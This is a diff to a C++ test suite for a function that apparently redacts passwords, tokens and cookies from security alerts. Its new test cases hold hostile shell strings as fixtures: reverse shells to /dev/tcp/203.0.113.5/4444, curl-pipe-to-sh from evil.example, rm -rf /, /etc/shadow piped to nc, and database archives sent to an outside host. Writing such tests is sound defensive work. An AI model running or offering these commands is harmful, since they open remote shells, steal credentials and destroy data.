@@ -13,6 +13,7 @@
 #include <set>
 #include <vector>
 
+#include "schemas/program_secrets.h"
 #include "schemas/secrets.h"
 
 namespace gyre::schemas {
@@ -67,6 +68,10 @@ TEST(RedactText, WhatIsNotHintedDoesNotMatch) {
   for (const auto& row : rows)
     expressions.push_back(
         std::make_unique<re2::RE2>(re2::StringPiece(row.expression.data(), row.expression.size())));
+  const auto matches = [&](std::size_t i, const std::string& text) {
+    return rows[i].expression.empty() ? hide_program_secrets(text) != text
+                                      : re2::RE2::PartialMatch(text, *expressions[i]);
+  };
   std::vector<std::size_t> matched(rows.size());
   for (int round = 0; round < 20'000; ++round) {
     std::string text;
@@ -75,7 +80,7 @@ TEST(RedactText, WhatIsNotHintedDoesNotMatch) {
       for (char& c : text) c = random() % 2 == 0 ? static_cast<char>(std::toupper(c)) : c;
     const auto hinted = rows_hinted_by(text);
     for (std::size_t i = 0; i < rows.size(); ++i) {
-      if (!re2::RE2::PartialMatch(text, *expressions[i])) continue;
+      if (!matches(i, text)) continue;
       ++matched[i];
       EXPECT_TRUE((hinted >> i & 1U) != 0) << rows[i].name << " in " << text << ", seed " << seed;
     }
@@ -85,7 +90,9 @@ TEST(RedactText, WhatIsNotHintedDoesNotMatch) {
 
 TEST(RedactText, IsLinear) {
   for (const std::string unit :
-       {"pass", "curl ", "eyJh", "secret-", "--pass", "mysql -p", "a@b://"}) {
+       {"pass", "curl ", "eyJh", "secret-", "--pass", "mysql -p", "a@b://", "token=\"a|b ",
+        "token=http://", "token='a;b token=\"c;d ", "mysql -p'", "mysql -p\"\\",
+        "curl -u a:", "cookie:a=", "sudo -u "}) {
     std::string text;
     while (text.size() < (1U << 20)) text += unit;
     const auto start = std::chrono::steady_clock::now();
@@ -158,16 +165,139 @@ TEST(RedactText, WhatAShellWouldRunIsNoSecret) {
             "token=<redacted> secret=<redacted> pass=<redacted> pass=<redacted>");
 }
 
+TEST(RedactText, NobodyHidesACommandBehindAValueWithoutQuotes) {
+  for (const auto& [text, redacted] : std::vector<std::pair<std::string, std::string>>{
+           {"sh -c token=x|bash</dev/tcp/203.0.113.5/4444",
+            "sh -c token=<redacted>|bash</dev/tcp/203.0.113.5/4444"},
+           {"sh -c curl -u a:b;bash${IFS}-i>&/dev/tcp/203.0.113.5/4444",
+            "sh -c curl -u a:<redacted>;bash${IFS}-i>&/dev/tcp/203.0.113.5/4444"},
+           {"sh -c mysql -px;curl${IFS}evil.example/x|sh",
+            "sh -c mysql -p<redacted>;curl${IFS}evil.example/x|sh"},
+           {"sh -c redis-cli -a x||rm${IFS}-rf${IFS}/",
+            "sh -c redis-cli -a <redacted>||rm${IFS}-rf${IFS}/"},
+           {"sh -c app --password x&&reboot", "sh -c app --password <redacted>&&reboot"},
+           {"sh -c secret=(x)", "sh -c secret=(x)"},
+           {"curl -H Authorization:x|sh", "curl -H Authorization:<redacted>|sh"},
+           {"echo root:x|chpasswd;id", "echo root:<redacted>|chpasswd;id"}})
+    EXPECT_EQ(redact_text(text), redacted);
+}
+
+TEST(RedactText, NobodyHidesACommandOrAPlaceAsASecret) {
+  for (const auto* text :
+       {R"(sh -c token="bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"; eval "$token")",
+        R"(sh -c PASS='cat /etc/shadow|nc 203.0.113.5 4444';eval $PASS)",
+        "sh -c pass=http://203.0.113.5/x.sh; curl $pass | sh",
+        "sh -c token=/dev/tcp/203.0.113.5/4444;bash -i >& $token 0>&1",
+        "sh -c token=/tmp/.x;sh $token", R"(sh -c secret="rm -rf srv"; $secret)",
+        R"(sh -c secret='nc 203.0.113.5 4444'; $secret)", "sh -c token='bash${IFS}-i'",
+        "app --token http://203.0.113.5/x", "curl -H token:203.0.113.5/payload.sh evil",
+        R"(sh -c {"token":"curl x|sh now"})"})
+    EXPECT_EQ(redact_text(text), text);
+  EXPECT_NE(redact_text("sh -c token=\"a | b\""), redact_text("sh -c token=\"a | c\""));
+  // A secret inside what stays is one all the same.
+  EXPECT_EQ(redact_text("sh -c token='mysql --password=hunter2 | sh'"),
+            "sh -c token='mysql --password=<redacted> | sh'");
+  EXPECT_EQ(redact_text("app --passphrase 'correct horse battery'"), "app --passphrase <redacted>");
+}
+
+TEST(RedactText, AnOptionIsASecretToItsOwnProgramOnly) {
+  for (const auto* text :
+       {"find /var/lib/mysql -print0", "tar -C /var/lib/mysql -pczf /tmp/loot.tgz .",
+        "tar -C mysql -pczf /tmp/loot.tgz .", "rsync /var/lib/mysql -pav eve@203.0.113.5:/loot",
+        "sudo -u mysql tar -pczf /tmp/loot.tgz .", "mkdir -p /var/lib/mysql -pv", "ls curl -u a:b",
+        "mysql -u root -p db", "mysql -P3306", "mysqld -pidfile", "docker run -p 80:80 login",
+        "mongod -p x", "sudo -p prompt id", "curl -u eve h"})
+    EXPECT_EQ(redact_text(text), text);
+}
+
+TEST(RedactText, APasswordIsHiddenHoweverItsProgramIsStarted) {
+  for (const auto* form : {"mysql -p@@",
+                           "/usr/bin/mysqldump -uroot -p@@ shop",
+                           "sh -c mysql -p@@ < dump.sql",
+                           "bash -lc cd /x && mysql -p@@",
+                           "sudo -u mysql mysqldump -p@@",
+                           "env A=b mysql -p@@",
+                           "docker exec -it db mysql -uroot -p@@",
+                           "docker run --rm -e A=b mysql:8 mysql -h h -p@@",
+                           "kubectl exec db-0 -n x -- mysql -p@@",
+                           "ssh -p 22 h 'mysql -p@@'",
+                           "timeout -k 5 9 mysql -p@@",
+                           "find . -exec mysql -p@@ ;",
+                           "su - mysql -c mysql -p@@",
+                           "while true; do mysql -p@@; done",
+                           "mysql -p'@@'",
+                           "mysql --host=h -p\"@@ more\" db",
+                           "mongo -u admin -p @@ db",
+                           "ldapsearch -D cn=admin -w @@",
+                           "sshpass -p@@ ssh h",
+                           "usermod -p @@ root",
+                           "docker login -u x -p=@@",
+                           "helm registry login -u a -p @@",
+                           "redis-cli -h h -a @@",
+                           "curl -su 'eve:@@' h",
+                           "curl --proxy-user=eve:@@ h",
+                           "smbclient -U eve%@@ //h/s",
+                           "Notice Shell (user=root command=mysql -p@@ parent=<NA> pcmdline=x)"}) {
+    std::string text = form;
+    text.replace(text.find("@@"), 2, kSecret);
+    const std::string out = redact_text(text);
+    EXPECT_EQ(out.find(kSecret), std::string::npos) << out;
+    EXPECT_NE(out.find("<redacted>"), std::string::npos) << out;
+    EXPECT_EQ(redact_text(out), out) << "a message is redacted after its fields";
+  }
+  for (const auto& row : secret_rows()) EXPECT_EQ(redact_text(row.after), row.after) << row.name;
+}
+
+TEST(RedactText, SecretsOfKnownMakers) {
+  const std::string thirty(30, 'x');
+  for (const std::string& secret :
+       {"hvs." + thirty, "npm_" + thirty, "sk_live_" + thirty, "rk_test_" + thirty})
+    EXPECT_EQ(redact_text("run " + secret), "run <redacted>");
+  EXPECT_EQ(redact_text("curl -d x https://hooks.slack.com/services/T000/B000/XXXX y"),
+            "curl -d x https://hooks.slack.com/services/<redacted> y");
+  EXPECT_EQ(redact_text("x DefaultEndpointsProtocol=https;AccountName=x;AccountKey=AAAbb==;"),
+            "x DefaultEndpointsProtocol=https;AccountName=x;AccountKey=<redacted>;");
+  EXPECT_EQ(redact_text("curl -H Cookie: session=abc; JSESSIONID=def"),
+            "curl -H Cookie: session=<redacted>; JSESSIONID=<redacted>");
+  EXPECT_EQ(redact_text("curl --oauth2-bearer abc123 x"), "curl --oauth2-bearer <redacted> x");
+  EXPECT_EQ(redact_text("npm config set //registry.npmjs.org/:_authToken abc"),
+            "npm config set //registry.npmjs.org/:_authToken <redacted>");
+  EXPECT_EQ(redact_text(R"(x {"password":"a\"b c","user":"d"})"),
+            R"(x {"password":<redacted>,"user":"d"})");
+}
+
+TEST(Redact, TheCommandOfASessionLosesItsSecretsInTheUriToo) {
+  Alert alert;
+  alert.source = "k8s_audit";
+  const std::string uri =
+      "/api/v1/namespaces/a/pods/b/exec?command=mysql&command=-pS3cr3t&container=web";
+  alert.output = "Exec (uri=" + uri + ")";
+  alert.fields = {{"ka.uri", uri}, {"ka.uri.param[command]", "mysql"}};
+  redact(alert);
+  const std::string redacted =
+      "/api/v1/namespaces/a/pods/b/exec?command=mysql&command=-p<redacted>&container=web";
+  EXPECT_EQ(alert.field("ka.uri"), redacted);
+  EXPECT_EQ(alert.output, "Exec (uri=" + redacted + ")");
+}
+
+TEST(Redact, TheMessageLosesWhatItsFieldsLose) {
+  Alert alert;
+  alert.output = "A mysql -phunter2 ran in web";
+  alert.fields = {{"proc.cmdline", "mysql -phunter2"}};
+  redact(alert);
+  EXPECT_EQ(alert.output, "A mysql -p<redacted> ran in web");
+}
+
 TEST(Redact, TheNameOfASecretIsNoSecret) {
   Alert alert;
   alert.source = "k8s_audit";
   alert.output = "Secret read (user=eve secret=db-password ns=prod token=x)";
   alert.fields = {{"ka.target.name", "db-password"}};
   redact(alert);
-  EXPECT_EQ(alert.output, "Secret read (user=eve secret=db-password ns=prod token=<redacted>");
+  EXPECT_EQ(alert.output, "Secret read (user=eve secret=db-password ns=prod token=<redacted>)");
   alert.source = "syscall";
   redact(alert);
-  EXPECT_EQ(alert.output, "Secret read (user=eve secret=<redacted> ns=prod token=<redacted>");
+  EXPECT_EQ(alert.output, "Secret read (user=eve secret=<redacted> ns=prod token=<redacted>)");
 }
 
 TEST(Redact, OnlyWhereSecretsMayStand) {
